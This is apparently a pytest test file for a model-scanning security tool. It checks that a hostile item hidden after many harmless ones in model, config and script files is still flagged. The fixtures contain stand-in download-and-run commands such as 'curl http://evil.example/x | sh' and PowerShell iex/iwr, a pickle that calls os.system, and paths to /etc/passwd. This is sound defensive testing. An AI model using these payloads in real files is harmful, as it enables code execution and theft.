"""A name, file or command beyond a bound on their number leaves a finding that fails, or an absence."""

from __future__ import annotations

import base64
import json
import struct
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from builders import onnx_files, tensorflow_wire

import modelaudit
from modelaudit.model.limits import MIB, Limits
from modelaudit.model.outline import Reference, ReferenceKind, References
from modelaudit.model.structure import Unread, UnreadReason
from modelaudit.wire.base import LimitReachedError
from modelaudit.wire.bounds import AbsenceLog, KeptItems, build_references, keep_first, keep_first_distinct

DOWNLOAD = "curl http://evil.example/x | sh"
# Both with zero bytes behind them: the dictionary {"a": 1}, and a call of posix.system.
BENIGN_PICKLE = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s." + bytes(20)
HOSTILE_PICKLE = b"\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R." + bytes(4)


def build_pmml(content: str, namespaces: int = 0) -> str:
    """Return a PMML document with ``content`` behind as many ``namespaces``."""
    declarations = "".join(f'<a xmlns:p{number}="urn:x:{number}"/>' for number in range(namespaces))
    return (
        f'<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">{declarations}{content}</PMML>'
    )


def build_calls(count: int) -> str:
    """Return PMML that defines and calls ``count`` functions, and then calls one that it does not define."""
    functions = [f"f{number}" for number in range(count)]
    definitions = "".join(f'<DefineFunction name="{name}"/>' for name in functions)
    return definitions + "".join(f'<Apply function="{name}"/>' for name in (*functions, "acmeExec"))


def build_includes(count: int) -> str:
    """Return XML that includes ``count`` files beside it, and then one by an absolute path."""
    includes = "".join(f'<xi:include href="a{number}.xml"/>' for number in range(count))
    return f'<?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude">{includes}<xi:include href="/x"/></r>'


def build_keras(count: int) -> str:
    """Return a Keras model with ``count`` vocabularies beside it, and then one outside its folder."""
    layers = [
        {"class_name": "StringLookup", "module": "keras.layers", "config": {"name": str(number), "vocabulary": path}}
        for number, path in enumerate(["words.txt"] * count + ["/etc/passwd"])
    ]
    return json.dumps({"class_name": "Sequential", "module": "keras", "config": {"layers": layers}})


def build_triton(count: int) -> str:
    """Return Triton settings with ``count`` label files, and then a library outside the folder."""
    labels = "".join(f'output [ {{ label_filename: "l{number}.txt" }} ]\n' for number in range(count))
    library = 'model_operations { op_library_filename: "../../evil.so" }\n'
    return f'name: "m"\nbackend: "onnxruntime"\nmax_batch_size: 8\n{labels}{library}'


def build_shard_index(count: int) -> str:
    """Return an index with ``count`` shards beside it, and then one outside its folder."""
    return json.dumps({"weight_map": {**{f"t{number}": f"s{number}" for number in range(count)}, "z": "../../x"}})


def build_auto_map(count: int) -> str:
    """Return a configuration with ``count`` classes of its own, and then one of another repository."""
    own = {f"Auto{number}": "configuration_x.C" for number in range(count)}
    return json.dumps({"auto_map": {**own, "AutoModel": "evil/repo--modeling_x.C"}})


def build_model_index(count: int) -> str:
    """Return a diffusers index with ``count`` trusted components, and then ``os.system``."""
    own = {f"c{number}": ["torch.nn", "Linear"] for number in range(count)}
    return json.dumps({"_class_name": "X", **own, "z": ["os", "system"]})


def build_notebook(count: int) -> str:
    """Return a notebook that runs ``count`` files beside it, and then one outside its folder."""
    source = "".join(f"%run a{number}.py\n" for number in range(count)) + "%run /tmp/evil.txt"
    cell = {"cell_type": "code", "id": "a", "metadata": {}, "outputs": [], "execution_count": None, "source": source}
    kernel = {"kernelspec": {"name": "python3", "display_name": "x", "language": "python"}}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": kernel, "cells": [cell]})


def build_container_settings(count: int) -> str:
    """Return container settings with ``count`` harmless commands, and then a download that is run."""
    prepared = {f"c{number}": {"initializeCommand": f"make x{number}"} for number in range(count)}
    return json.dumps({**prepared, "postCreateCommand": DOWNLOAD})


def build_safetensors(count: int) -> bytes:
    """Return a safetensors file with ``count`` harmless texts in its metadata, and then a dangerous one."""
    metadata = {**{f"k{number}": '{"a":1}' for number in range(count)}, "z": '{"_target_":"os.system"}'}
    tensor = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    header = json.dumps({"__metadata__": metadata, "a": tensor}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bytes(4)


def build_onnx(count: int) -> bytes:
    """Return an ONNX model with ``count`` harmless pickles in attributes, and then a hostile one."""
    texts = [BENIGN_PICKLE] * count + [HOSTILE_PICKLE]
    attributes = [onnx_files.encode_attribute("a", text=base64.b64encode(text)) for text in texts]
    return onnx_files.encode_model(onnx_files.encode_graph(onnx_files.encode_node("Relu", *attributes)))


def build_collections(count: int) -> bytes:
    """Return a SavedModel whose collection has ``count`` short values, and then a hostile pickle."""
    values = tensorflow_wire.encode_message(1, b"a") * count
    values += tensorflow_wire.encode_message(1, base64.b64encode(HOSTILE_PICKLE))
    collection = tensorflow_wire.encode_message(2, tensorflow_wire.encode_message(2, values))
    entry = tensorflow_wire.encode_message(4, tensorflow_wire.encode_message(1, "k"), collection)
    graph = tensorflow_wire.encode_graph(tensorflow_wire.encode_constant_node("p", "x"))
    return tensorflow_wire.encode_saved_model(graph, entry)


def build_checkpoint_state(count: int) -> str:
    """Return a checkpoint state with ``count`` paths beside it, and then one outside its folder."""
    paths = "".join(f'all_model_checkpoint_paths: "m{number}"\n' for number in range(count))
    return f'model_checkpoint_path: "m"\n{paths}all_model_checkpoint_paths: "/etc/passwd"\n'


def build_merge(count: int) -> str:
    """Return settings of a merge of ``count`` models, and then of one more."""
    return "merge_method: linear\nmodels:\n" + "".join(f"- model: acme/m{n}\n" for n in range(count + 1))


BEYOND: dict[str, tuple[str, Callable[[], str | bytes]]] = {
    "function after namespaces": ("m.pmml", lambda: build_pmml('<Apply function="acmeExec"/>', 5_100)),
    "function after functions": ("m.pmml", lambda: build_pmml(build_calls(5_000))),
    "inclusion": ("m.xml", lambda: build_includes(5_001)),
    "vocabulary of Keras": ("m.json", lambda: build_keras(1_001)),
    "library of Triton": ("config.pbtxt", lambda: build_triton(1_001)),
    "shard": ("model.safetensors.index.json", lambda: build_shard_index(20_001)),
    "class of another repository": ("config.json", lambda: build_auto_map(1_001)),
    "component of diffusers": ("model_index.json", lambda: build_model_index(1_001)),
    "file that a notebook runs": ("a.ipynb", lambda: build_notebook(201)),
    "file of a Modelfile": ("Modelfile", lambda: "ADAPTER ./a\n" + "".join(f"FROM ./{n}\n" for n in range(1_001))),
    "command of a container": ("devcontainer.json", lambda: build_container_settings(2_001)),
    "command of a script": ("run.sh", lambda: "#!/bin/sh\n" + ":\n" * 50_001 + DOWNLOAD),
    "alias": ("run.sh", lambda: "alias a=ls\n" * 20_000 + 'alias z="curl http://evil.example/x"\nz | sh\n'),
    "item of an array": ("run.sh", lambda: f'#!/bin/bash\na=({"x " * 201}"{DOWNLOAD}")\neval "${{a[201]}}"\n'),
    "downloaded file": (
        "run.sh",
        lambda: "".join(f"curl -o f{n} http://x.example/\n" for n in [*range(5_002), "z"]) + "sh fz\n",
    ),
    "variable of Windows": (
        "run.bat",
        lambda: "".join(f"set v{n}=1\n" for n in range(501)) + "set c=curl\n%c% http://x.example/ -o x.exe\nx.exe\n",
    ),
    "command after many characters": ("run.ps1", lambda: f"echo {'a' * 25_000}; iex (iwr http://evil.example/x)\n"),
    "command in a long variable": (
        "run.bat",
        lambda: (
            f"set a={'b' * 2_000}\necho %a%%a%%a%%a%%a%%a%%a%%a%%a%%a%%a% & powershell iex (iwr http://x.example/)\n"
        ),
    ),
    "model of a merge": ("mergekit_config.yml", lambda: build_merge(2_000)),
    "document in metadata": ("m.safetensors", lambda: build_safetensors(2_001)),
    "pickle in an attribute": ("m.onnx", lambda: build_onnx(1_001)),
    "pickle in a collection": ("saved_model.pb", lambda: build_collections(200_001)),
    "checkpoint": ("checkpoint", lambda: build_checkpoint_state(1_001)),
    "ambiguous name": ("m.json", lambda: json.dumps([*({"type": "a.b"} for _ in range(2_001)), {"type": "os.system"}])),
    "target in a text": ("m.json", lambda: json.dumps("_target_: torch.nn.Linear, " * 2_001 + "_target_: os.system")),
    "tag in a text": (
        "m.json",
        lambda: json.dumps("!!python/name:torch.nn.Linear " * 2_001 + "!!python/name:os.system"),
    ),
    "resolver": ("m.yaml", lambda: 'a: "${x:b}"\n' * 2_001 + "z: \"${eval:__import__('os')}\"\n"),
    "name in a long text": ("m.conf", lambda: "x y z\n" * (8 * MIB // 6 + 1) + "_target_ = os.system\n"),
}
"""For each case the name of a file, and a function that builds it: many harmless items, then a hostile one."""


@pytest.mark.parametrize("case", BEYOND)
def test_item_beyond_a_bound_makes_a_finding_or_leaves_an_absence(case: str, tmp_path: Path) -> None:
    name, build = BEYOND[case]
    content = build()
    (tmp_path / name).write_bytes(content.encode() if isinstance(content, str) else content)
    (tmp_path / "configuration_x.py").write_text("class C:\n    pass\n")
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security", "integrity"])
    assert report.exit_code in (1, 3)


def make_references(count: int) -> Iterator[Reference]:
    """Yield ``count`` references to different files."""
    return (Reference(ReferenceKind.DATA, f"file-{number}") for number in range(count))


def test_keep_first_returns_all_items_up_to_the_bound_without_an_absence() -> None:
    assert keep_first("abc", 3, "letters") == (("a", "b", "c"), ())


def test_keep_first_returns_an_absence_for_items_beyond_the_bound() -> None:
    kept, absences = keep_first("abcd", 3, "letters")
    assert kept == ("a", "b", "c")
    assert [(each.reason, each.detail) for each in absences] == [
        (UnreadReason.LIMIT, "only the first 3 letters were read")
    ]


def test_keep_first_distinct_counts_repeated_items_once() -> None:
    assert keep_first_distinct("aabb", 2, "letters") == (("a", "b"), ())
    kept, absences = keep_first_distinct("aabbc", 2, "letters")
    assert (kept, len(absences)) == (("a", "b"), 1)


def test_build_references_counts_repeated_references_once() -> None:
    repeated = [*make_references(2), *make_references(2)]
    assert list(build_references("keras", repeated, 2)) == [References("keras", tuple(make_references(2)))]


def test_build_references_yields_nothing_for_no_references() -> None:
    assert not list(build_references("keras", (), 2))


def test_build_references_adds_an_absence_if_references_exceed_the_bound() -> None:
    results = list(build_references("keras", make_references(3), 2))
    assert results[0] == References("keras", tuple(make_references(2)))
    assert len(results) == 2


def test_items_beyond_the_bound_on_their_number_or_on_the_bytes_of_all_names_raise_a_limit_error() -> None:
    kept = KeptItems("symbols", 2, 5)
    kept.count(0, 3)
    kept.count(1, 2)
    with pytest.raises(LimitReachedError, match="more than 2 symbols"):
        kept.count(2)
    with pytest.raises(LimitReachedError, match="texts of its symbols take more than 5 bytes in all"):
        KeptItems("symbols", 2, 5).count(0, 6)


def test_absence_log_lists_absences_up_to_its_bound_and_counts_the_others() -> None:
    absence = Unread(UnreadReason.NO_READER, "no reader", format="x")
    log = AbsenceLog(2)
    for number in range(2):
        log.append((f"a.zip!{number}", absence))
    assert log == [("a.zip!0", absence), ("a.zip!1", absence)]
    for number in range(2, 5):
        log.append((f"a.zip!{number}", absence))
    *listed, (address, counted) = log
    assert listed == [("a.zip!0", absence), ("a.zip!1", absence)]
    assert (address, counted.reason) == ("a.zip", UnreadReason.LIMIT)
    assert counted.detail == "3 further absences of its parts are not listed"
    assert ("a.zip!4", absence) in log.list_since(len(log))


def test_files_share_the_bound_on_listed_absences_but_each_file_lists_at_least_one(tmp_path: Path) -> None:
    for name in ("a.zip", "b.zip"):
        with zipfile.ZipFile(tmp_path / name, "w") as archive:
            for number in range(4):
                archive.writestr(f"{number}.bin", b"\1\2\3")
    report = modelaudit.scan(tmp_path, second_opinion=False, limits=Limits(absences=3))
    absences = [absence.unread.detail for record in report.coverage.artifacts for _, absence in record.absences]
    assert [detail for detail in absences if detail.endswith("not listed")] == [
        "1 further absences of its parts are not listed",
        "3 further absences of its parts are not listed",
    ]
    assert len(absences) == 6
    assert report.exit_code == 3


def test_files_share_the_bound_on_detailed_findings_but_each_file_lists_one_of_each_rule(tmp_path: Path) -> None:
    for name in ("a.py", "b.py"):
        # Two rules fire on each file, one of them on two commands.
        (tmp_path / name).write_text("import os\nos.system('a')\nos.popen('b')\nexec('c')\n")
    full = modelaudit.scan(tmp_path, second_opinion=False)
    bounded = modelaudit.scan(tmp_path, second_opinion=False, limits=Limits(findings=1))
    rules = {name: Counter(each.rule for each in full.findings if each.artifact == name) for name in ("a.py", "b.py")}
    bounded_rules = {
        name: Counter(each.rule for each in bounded.findings if each.artifact == name) for name in ("a.py", "b.py")
    }
    assert max(rules["b.py"].values()) > 1
    assert bounded_rules["a.py"] == rules["a.py"]
    assert bounded_rules["b.py"] == dict.fromkeys(rules["b.py"], 1)
    counted = [line for each in bounded.findings for line in each.evidence if "further findings" in line]
    assert counted == ["1 further findings of this rule in this file are not listed"]
    assert bounded.decision.verdict == full.decision.verdict
